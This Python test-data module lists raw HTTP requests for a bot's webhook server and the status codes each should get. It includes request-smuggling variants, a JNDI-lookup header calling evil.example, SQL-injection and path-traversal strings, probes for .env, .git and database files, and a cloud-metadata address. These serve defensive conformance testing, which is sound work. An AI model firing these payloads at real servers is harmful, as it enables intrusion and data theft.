"""Bytes to the door: each with the answers that must come, and how many events may be kept for it.

``{event}`` is a whole right body, ``{length}`` its length, ``{size}`` the same in hexadecimal. No answer means that the
door closes without a word.
"""

from typing import Final, NamedTuple


class Raw(NamedTuple):
    """What is sent, which statuses are answered, how many events are kept."""

    why: str
    sent: bytes
    answers: tuple[int, ...]
    kept: int = 0


def post(*headers: bytes, body: bytes = b"{event}", first: bytes = b"POST /vats HTTP/1.1") -> bytes:
    """Write a request with these headers, and no others."""
    return b"\r\n".join([first, *headers, b"", body])


def whole(*headers: bytes, body: bytes = b"{event}", first: bytes = b"POST /vats HTTP/1.1") -> bytes:
    """Write a right request with these headers beside what it needs."""
    return post(b"Host: bot", b"Content-Length: {length}", *headers, body=body, first=first)


def chunked(body: bytes, *headers: bytes) -> bytes:
    """Write a request whose body comes in chunks."""
    return post(b"Host: bot", b"Transfer-Encoding: chunked", *headers, body=body)


CHUNK: Final = b"{size}\r\n{event}\r\n"
HIDDEN: Final = b"POST /vats HTTP/1.1\r\nHost: bot\r\nContent-Length: 9\r\n\r\ncmd=event"
"""A whole request of its own, where a body or its end should be."""

RIGHT: Final = (
    Raw("as it should be", whole(), (200,), 1),
    Raw("names of headers in any case", post(b"hOsT: bot", b"CONTENT-LENGTH: {length}"), (200,), 1),
    Raw("spaces and tabs around a value", post(b"Host: bot", b"Content-Length: \t {length}\t "), (200,), 1),
    Raw("an old version", whole(first=b"POST /vats HTTP/1.0"), (200,), 1),
    Raw("an empty line before it", b"\r\n" + whole(), (200,), 1),
    Raw("a header with no value", whole(b"X-Empty:"), (200,), 1),
    Raw("a header in UTF-8", whole("X-Name: Анна".encode()), (200,), 1),
    Raw("a header of bytes that are no UTF-8", whole(b"X-Name: \xff\xfe"), (200,), 1),
    Raw("in one chunk", chunked(CHUNK + b"0\r\n\r\n"), (200,), 1),
    Raw("a chunk with an extension", chunked(b"{size};name=value\r\n{event}\r\n0\r\n\r\n"), (200,), 1),
    Raw("a chunk's size with zeros before it", chunked(b"000{size}\r\n{event}\r\n0\r\n\r\n"), (200,), 1),
    Raw("a trailer after the chunks", chunked(CHUNK + b"0\r\nX-Late: 1\r\n\r\n"), (200,), 1),
    Raw("asks to go on", whole(b"Expect: 100-continue"), (200,), 1),
    Raw("expects what nobody knows", whole(b"Expect: 200-maybe"), (200,), 1),
    Raw("wants a websocket", whole(b"Connection: Upgrade", b"Upgrade: websocket"), (200,), 1),
    Raw("wants HTTP/2 on the same line", whole(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c"), (200,), 1),
    Raw("a query beside the path", whole(first=b"POST /vats?a=1&crm_token=x HTTP/1.1"), (200,), 1),
    Raw("a fragment in the path", whole(first=b"POST /vats#x HTTP/1.1"), (200,), 1),
    Raw("an encoded letter in the path", whole(first=b"POST /%76ats HTTP/1.1"), (200,), 1),
    Raw("the whole address as the path", whole(first=b"POST http://bot/vats HTTP/1.1"), (200,), 1),
)

PIPELINED: Final = (
    Raw("two in a row", whole() + whole(), (200, 200), 1),
    Raw("a right one, then rubbish", whole() + b"\x00\x01rubbish\r\n\r\n", (400,)),
    Raw("a wrong path, then a right one", b"GET /x HTTP/1.1\r\nHost: bot\r\n\r\n" + whole(), (404, 200), 1),
    Raw("eight at once", whole() * 8, (200,) * 8, 1),
    Raw("a body and more than it said", whole(body=b"{event}XYZ"), (400,)),
    Raw("empty lines between two", whole() + b"\r\n\r\n" + whole(), (200, 200), 1),
    Raw("a request as the body of another", post(
        b"Host: bot", b"Content-Length: %d" % len(HIDDEN), body=HIDDEN), (401,)),
    Raw("whoever closes, closes", whole(b"Connection: close") + whole(), (400,)),
)  # fmt: skip

SMUGGLED: Final = (
    Raw("a trailer that looks like a length", chunked(CHUNK + b"0\r\nContent-Length: 9\r\n\r\n"), (400,)),
    Raw("a length and chunks", chunked(b"0\r\n\r\n" + HIDDEN, b"Content-Length: 5"), (400,)),
    Raw("chunks and a length", post(
        b"Host: bot", b"Content-Length: 5", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + HIDDEN), (400,)),
    Raw("two lengths", whole(b"Content-Length: 3"), (400,)),
    Raw("the same length twice", whole(b"Content-Length: {length}"), (400,)),
    Raw("a list of lengths", post(b"Host: bot", b"Content-Length: 3, {length}"), (400,)),
    Raw("a length below zero", post(b"Host: bot", b"Content-Length: -1"), (400,)),
    Raw("a length with a sign", post(b"Host: bot", b"Content-Length: +{length}"), (400,)),
    Raw("a length in hexadecimal", post(b"Host: bot", b"Content-Length: 0x10"), (400,)),
    Raw("a length with a point", post(b"Host: bot", b"Content-Length: 5.0"), (400,)),
    Raw("a length in words", post(b"Host: bot", b"Content-Length: five"), (400,)),
    Raw("a length with a space in it", post(b"Host: bot", b"Content-Length: 1 5"), (400,)),
    Raw("a length that is empty", post(b"Host: bot", b"Content-Length:"), (400,)),
    Raw("a length of Arabic digits", post(b"Host: bot", "Content-Length: ١٥".encode()), (400,)),
    Raw("a length beyond 64 bits", post(b"Host: bot", b"Content-Length: 99999999999999999999"), (400,)),
    Raw("a length beyond the limit", post(b"Host: bot", b"Content-Length: 65537", body=b""), (413,)),
    Raw("chunks that are named twice", chunked(CHUNK + b"0\r\n\r\n", b"Transfer-Encoding: chunked"), (400,)),
    Raw("chunks, then something else", post(b"Host: bot", b"Transfer-Encoding: chunked, identity"), (400,)),
    Raw("an encoding nobody knows", post(b"Host: bot", b"Transfer-Encoding: xchunked"), (400,)),
    Raw("an encoding in quotes", post(b"Host: bot", b'Transfer-Encoding: "chunked"'), (400,)),
    Raw("a space before the colon", post(b"Host: bot", b"Transfer-Encoding : chunked"), (400,)),
    Raw("a tab in a header's name", post(b"Host: bot", b"Transfer\t-Encoding: chunked"), (400,)),
    Raw("a vertical tab before the value", post(b"Host: bot", b"Transfer-Encoding: \x0bchunked"), (400,)),
    Raw("a folded header", post(b"Host: bot", b"X-Long: a", b" b", b"Content-Length: {length}"), (400,)),
    Raw("a folded encoding", post(b"Host: bot", b"Transfer-Encoding:", b" chunked"), (400,)),
    Raw("the first header is folded", post(b" Host: bot", b"Content-Length: {length}"), (400,)),
    Raw("lines that end in LF alone", whole().replace(b"\r\n", b"\n"), (400,)),
    Raw("a line that ends in CR alone", b"POST /vats HTTP/1.1\rHost: bot\r\n\r\n", (400,)),
    Raw("a CR within a value", post(b"Host: bot", b"X: a\rb"), (400,)),
    Raw("an LF within a value", post(b"Host: bot", b"X: a\nTransfer-Encoding: chunked"), (400,)),
    Raw("a chunk's size that is no number", chunked(b"zz\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk's size below zero", chunked(b"-1\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk's size with 0x", chunked(b"0x{size}\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk's size with a sign", chunked(b"+{size}\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk's size with a space before it", chunked(b" {size}\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk's size beyond 64 bits", chunked(b"fffffffffffffffff\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk that is longer than it says", chunked(b"3\r\n{event}\r\n0\r\n\r\n"), (400,)),
    Raw("a chunk that ends in LF alone", chunked(b"{size}\n{event}\n0\n\n"), (400,)),
    Raw("a NUL in a chunk's extension", chunked(b"{size};\x00\r\n{event}\r\n0\r\n\r\n"), (400,)),
)  # fmt: skip

HEADERS: Final = (
    Raw("no Host", post(b"Content-Length: {length}"), (400,)),
    Raw("two Hosts", whole(b"Host: evil.example"), (400,)),
    Raw("an empty Host", post(b"Host:", b"Content-Length: {length}"), (200,), 1),
    Raw("a Host of another house", post(b"Host: evil.example", b"Content-Length: {length}"), (200,), 1),
    Raw("a Host with a user and a port", post(b"Host: u:p@bot:99999", b"Content-Length: {length}"), (200,), 1),
    Raw("a wrong forwarded address", whole(b"X-Forwarded-For: ' OR 1=1, ::1, , 999.9.9.9"), (200,), 1),
    Raw("another method by a header", whole(b"X-HTTP-Method-Override: DELETE"), (200,), 1),
    Raw("another path by a header", whole(b"X-Original-URL: /metrics", b"X-Rewrite-URL: /metrics"), (200,), 1),
    Raw("the token in a header counts for nothing", post(
        b"Host: bot", b"Content-Length: 9", b"X-Crm-Token: {token}", b"Authorization: Bearer {token}", body=b"cmd=event"
    ), (401,)),
    Raw("the token in the query counts for nothing", post(
        b"Host: bot", b"Content-Length: 9", body=b"cmd=event", first=b"POST /vats?crm_token={token} HTTP/1.1"
    ), (401,)),
    Raw("a cookie of 7,000 bytes", whole(b"Cookie: a=" + b"b" * 7_000), (200,), 1),
    Raw("a range of a body", whole(b"Range: bytes=0-1,5-9"), (200,), 1),
    Raw("a header of ${jndi:}", whole(b"User-Agent: ${jndi:ldap://evil.example/a}"), (200,), 1),
    Raw("a NUL in a value", whole(b"X: a\x00b"), (400,)),
    Raw("a NUL in a name", whole(b"X\x00: a"), (400,)),
    Raw("a header with no colon", whole(b"X-Nothing"), (400,)),
    Raw("a header with no name", whole(b": value"), (400,)),
    Raw("a name with a bracket", whole(b"X(1): a"), (400,)),
    Raw("a name in Cyrillic", whole("Имя: a".encode()), (400,)),
    Raw("a header of 70,000 bytes", whole(b"X: " + b"a" * 70_000), (400,)),
    Raw("a name of 70,000 bytes", whole(b"X" * 70_000 + b": a"), (400,)),
    Raw("two thousand headers", whole(*(b"X-%d: y" % number for number in range(2_000))), (400,)),
    Raw("compressed, it says", whole(b"Content-Encoding: gzip"), (415,)),
    Raw("not compressed, it says", whole(b"Content-Encoding: identity"), (415,)),
    Raw("compressed twice, it says", whole(b"Content-Encoding: gzip, br"), (415,)),
)  # fmt: skip

FIRST_LINES: Final = (
    Raw("TLS to a door that speaks none", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", (400,)),
    Raw("HTTP/2 from the start", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400,)),
    Raw("HTTP/0.9", b"GET /health/live\r\n\r\n", (200,)),
    Raw("a version that there is not", b"GET /health/live HTTP/9.9\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a version of three parts", b"GET /health/live HTTP/1.1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a version in small letters", b"GET /health/live http/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("another protocol", b"POST /vats SMTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("words of SMTP", b"EHLO bot\r\n\r\n", (400,)),
    Raw("words of Redis", b"*1\r\n$4\r\nPING\r\n\r\n", (400,)),
    Raw("JSON with no HTTP", b'{"cmd": "event"}\r\n\r\n', (400,)),
    Raw("two spaces in the first line", b"GET  /health/live HTTP/1.1\r\nHost: bot\r\n\r\n", (200,)),
    Raw("a tab in the first line", b"GET\t/health/live\tHTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a space in the path", b"GET /health /live HTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a NUL in the path", b"GET /health/live\x00 HTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a path of 70,000 bytes", b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a method of 70,000 bytes", b"A" * 70_000 + b" / HTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a method in small letters", b"get /health/live HTTP/1.1\r\nHost: bot\r\n\r\n", (400,)),
    Raw("a way through to another host", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n", (404,)),
    Raw("no path", b"OPTIONS * HTTP/1.1\r\nHost: bot\r\n\r\n", (404,)),
)


def asks(path: bytes, method: bytes = b"GET") -> bytes:
    """Write a request with no body."""
    return method + b" " + path + b" HTTP/1.1\r\nHost: bot\r\n\r\n"


PATHS: Final = (
    Raw("the root", asks(b"/"), (404,)),
    Raw("two slashes", asks(b"//health/live"), (404,)),
    Raw("a slash at the end", asks(b"/health/live/"), (404,)),
    Raw("capital letters", asks(b"/HEALTH/LIVE"), (404,)),
    Raw("a dot on the way", asks(b"/health/./live"), (404,)),
    Raw("two dots on the way", asks(b"/vats/../health/live"), (404,)),
    Raw("two dots out of the house", asks(b"/../../etc/passwd"), (404,)),
    Raw("encoded dots", asks(b"/%2e%2e/%2e%2e/etc/passwd"), (404,)),
    Raw("dots encoded twice", asks(b"/%252e%252e/etc/passwd"), (404,)),
    Raw("an encoded slash", asks(b"/health%2flive"), (200,)),
    Raw("a backslash", asks(b"/health\\live"), (404,)),
    Raw("an encoded NUL", asks(b"/health/live%00"), (404,)),
    Raw("an encoded line break", asks(b"/health/live%0d%0aX:%20y"), (404,)),
    Raw("half of an encoding", asks(b"/health/live%"), (404,)),
    Raw("an encoding that is none", asks(b"/health/live%zz"), (404,)),
    Raw("a parameter of the path", asks(b"/health/live;a=1"), (404,)),
    Raw("Cyrillic, encoded", asks(b"/%D0%B6"), (404,)),
    Raw("bytes that are no UTF-8, encoded", asks(b"/%ff%fe"), (404,)),
    Raw("settings", asks(b"/.env"), (404,)),
    Raw("the source", asks(b"/.git/config"), (404,)),
    Raw("the database", asks(b"/data/bot.db"), (404,)),
    Raw("a page for administrators", asks(b"/admin"), (404,)),
    Raw("somebody's debugger", asks(b"/debug/pprof"), (404,)),
    Raw("the description of an API", asks(b"/openapi.json"), (404,)),
    Raw("events are posted", asks(b"/vats"), (405,)),
    Raw("updates are posted", asks(b"/telegram"), (405,)),
    Raw("health is asked for", asks(b"/health/live", b"POST"), (405,)),
    Raw("metrics are asked for", asks(b"/metrics", b"DELETE"), (405,)),
    Raw("a method of WebDAV", asks(b"/metrics", b"PROPFIND"), (405,)),
    Raw("a method that gives back what came", asks(b"/vats", b"TRACE"), (405,)),
    Raw("a method for coffee", asks(b"/vats", b"BREW"), (400,)),
    Raw("what one may", asks(b"/vats", b"OPTIONS"), (405,)),
    Raw("the head alone", asks(b"/health/live", b"HEAD"), (405,)),
    Raw("a patch", asks(b"/vats", b"PATCH"), (405,)),
    Raw("health with a query", asks(b"/health/live?verbose=1"), (200,)),
    Raw("health of another host", asks(b"http://169.254.169.254/health/live"), (200,)),
)

TABLE: Final = (*RIGHT, *PIPELINED, *SMUGGLED, *HEADERS, *FIRST_LINES, *PATHS)
